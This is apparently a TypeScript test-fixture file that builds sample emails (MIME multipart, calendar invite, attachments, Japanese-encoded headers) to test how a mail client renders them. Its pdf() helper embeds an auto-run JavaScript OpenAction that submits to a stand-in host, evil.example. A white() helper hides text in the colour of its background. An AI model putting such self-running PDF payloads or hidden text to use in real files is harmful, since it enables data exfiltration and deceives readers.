// Messages with what real mail brings along: invitations, messages in messages, documents, pictures, hundreds of files.

export interface Part {
  readonly type: string
  readonly headers?: readonly string[]
  readonly content: string | Uint8Array
}

const head = (subject: string) => [
  'From: Alice Example <alice@example.com>',
  'To: Robin <robin@example.com>',
  `Subject: ${subject}`,
  'Date: Mon, 23 Nov 2026 10:15:00 +0100',
  'MIME-Version: 1.0',
]

const wrapped = (text: string) => text.replace(/.{76}/g, '$&\r\n')

function partOf({ type, headers = [], content }: Part): string {
  const encoded = wrapped(Buffer.from(content).toString('base64'))
  return [`Content-Type: ${type}`, ...headers, 'Content-Transfer-Encoding: base64', '', encoded].join('\r\n')
}

/** The parts in their order. */
export function multipart(kind: string, subject: string, parts: readonly Part[]): string {
  return [
    ...head(subject),
    `Content-Type: multipart/${kind}; boundary="=_outer"`,
    '',
    ...parts.map(part => `--=_outer\r\n${partOf(part)}`),
    '--=_outer--',
    '',
  ].join('\r\n')
}

export const mixed = (subject: string, parts: readonly Part[]) => multipart('mixed', subject, parts)

export const html = (content: string): Part => ({ type: 'text/html; charset=utf-8', content })
/** Words in the colour of their ground. */
export const white = (words: string, more = '') => `<p style="color:#fff${more}">${words}</p>`

export const text = (content: string): Part => ({ type: 'text/plain; charset=utf-8', content })

export function file(name: string, type: string, content: string | Uint8Array): Part {
  return { type, headers: [`Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}`], content }
}

/** A part that the text may name by its Content-ID. */
export function inline(id: string, name: string, type: string, content: string | Uint8Array): Part {
  return { type, headers: [`Content-ID: <${id}>`, `Content-Disposition: inline; filename="${name}"`], content }
}

export const invitation: Part = {
  type: 'text/calendar; method=REQUEST; charset=utf-8',
  content: [
    'BEGIN:VCALENDAR',
    'VERSION:2.0',
    'PRODID:-//example//EN',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    'UID:1@example.com',
    'DTSTAMP:20261120T100000Z',
    'DTSTART:20261124T130000Z',
    'DTEND:20261124T140000Z',
    'SUMMARY:Budget talk',
    'LOCATION:Room 1',
    'ORGANIZER;CN=Alice:mailto:alice@example.com',
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ].join('\r\n'),
}

/** One page that says a word, and a script that would speak if any ran. */
export function pdf(word: string): string {
  const stream = `BT /F1 48 Tf 40 120 Td (${word}) Tj ET`
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  let out = '%PDF-1.4\n'
  const offsets = objects.map((object, i) => {
    const at = out.length
    out += `${i + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const table = offsets.map(at => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  return `${out}xref\n0 6\n0000000000 65535 f \n${table}trailer << /Size 6 /Root 1 0 R >>\nstartxref\n${out.length}\n%%EOF\n`
}

/** The first bytes of a PNG, that say how large it would be; nothing follows. */
export function pngHeader(width: number, height: number): Uint8Array {
  const bytes = Buffer.alloc(33)
  bytes.write('\x89PNG\r\n\x1a\n', 0, 'latin1')
  bytes.writeUInt32BE(13, 8)
  bytes.write('IHDR', 12, 'latin1')
  bytes.writeUInt32BE(width, 16)
  bytes.writeUInt32BE(height, 20)
  bytes.set([8, 2, 0, 0, 0], 24)
  return bytes
}

const jis = (base64: string) => `=?ISO-2022-JP?B?${base64}?=`

/** Letters that shift from one alphabet to another: engines keep the shift in unlike ways. */
export const shifting = {
  subject: '会議の件会議の件',
  words: ['田中太郎', 'ロビン', '会議は月曜日です。', '議事録.pdf', '“25 €”'],
  raw: Buffer.from(
    [
      `From: ${jis('GyRCRURDZkJATzobKEI=')} <tanaka@a.example>`,
      `To: ${jis('GyRCJW0lUyVzGyhC')} <robin@example.com>`,
      `Subject: ${jis('GyRCMnE1RCRON28bKEI=')}`,
      ` ${jis('GyRCMnE1RCRON28bKEI=')}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      ...['--b', 'Content-Type: text/plain; charset=ISO-2022-JP', '', '\x1b$B2q5D$O7nMKF|$G$9!#\x1b(B'],
      ...['--b', 'Content-Type: text/plain; charset=windows-1252', '', '\x9325 \x80\x94'],
      '--b',
      `Content-Type: application/pdf; name="${jis('GyRCNUQ7dk8/GyhCLnBkZg==')}"`,
      'Content-Disposition: attachment',
      'Content-Transfer-Encoding: base64',
      '',
      'JVBERi0xLjQ=',
      '--b--',
    ].join('\r\n'),
    'latin1',
  ),
} as const

/** In the page: all that is read of the message, and of its headers once they are unfolded. */
export function wordsOnScreen(): string {
  for (const folded of document.querySelectorAll<HTMLDetailsElement>('.people details')) folded.open = true
  const page = document.querySelector<HTMLIFrameElement>('iframe:not([data-old])')?.contentDocument
  return `${document.querySelector('main')!.innerText} ${page?.body?.innerText ?? ''}`
}
